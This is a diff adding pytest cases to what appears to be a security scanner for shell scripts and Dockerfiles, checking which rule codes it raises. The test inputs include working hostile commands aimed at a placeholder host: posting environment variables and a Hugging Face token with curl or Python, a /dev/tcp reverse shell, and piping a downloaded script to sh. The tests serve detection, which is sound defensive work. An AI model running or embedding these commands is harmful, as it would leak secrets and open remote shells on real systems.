@@ -93,3 +93,44 @@ def test_old_browser_code_in_javascript_is_no_script_host() -> None:
 
 def test_a_long_script_is_read_to_the_limit() -> None:
     assert rows("a.sh", "echo 1\n" * 400_000)[-1][2] == "limited"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'DATA=$(env | base64)\ncurl -d "$DATA" https://host.example.invalid\n',
+        "T=$(cat ~/.cache/huggingface/token)\ncurl -F t=$T https://host.example.invalid\n",
+        "python3 - <<EOF\nimport os, requests\n"
+        "requests.post('https://host.example.invalid', json=dict(os.environ))\nEOF\n",
+        'python3 -c "import os, requests as r; '
+        "r.post('https://host.example.invalid', json=dict(os.environ))\"\n",
+    ],
+)
+def test_secrets_that_several_lines_send_are_told(text: str) -> None:
+    assert "SCR003" in rules("run.sh", "#!/bin/bash\n" + text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'T=$(cat ~/.cache/huggingface/token)\ncurl -H "Authorization: Bearer $T" https://x.example.invalid\n',
+        "T=$(cat ~/.cache/huggingface/token)\ncurl -d t=$T https://huggingface.co/api\n",
+        "python3 - <<EOF\nimport os\nprint(dict(os.environ))\nEOF\n",
+        "python3 -m venv x\npython3 -c 'import torch; print(torch.__version__)'\n",
+    ],
+)
+def test_scripts_that_ask_and_print_are_silent(text: str) -> None:
+    assert rules("run.sh", "#!/bin/bash\n" + text) == {"SCR014"}
+
+
+@pytest.mark.parametrize(
+    ("line", "rule"),
+    [
+        ("RUN bash -i >& /dev/tcp/host.example.invalid/1 0>&1", "SCR001"),
+        ("RUN env | curl -d @- https://host.example.invalid", "SCR003"),
+        ("RUN curl -s https://host.example.invalid/i.sh | sh", "SCR015"),
+        ("ADD https://host.example.invalid/a /usr/bin/a\nRUN /usr/bin/a", "SCR015"),
+    ],
+)
+def test_a_build_file_is_told_by_what_its_lines_do(line: str, rule: str) -> None:
+    assert rule in rules("Dockerfile", f"FROM scratch\n{line}\n")
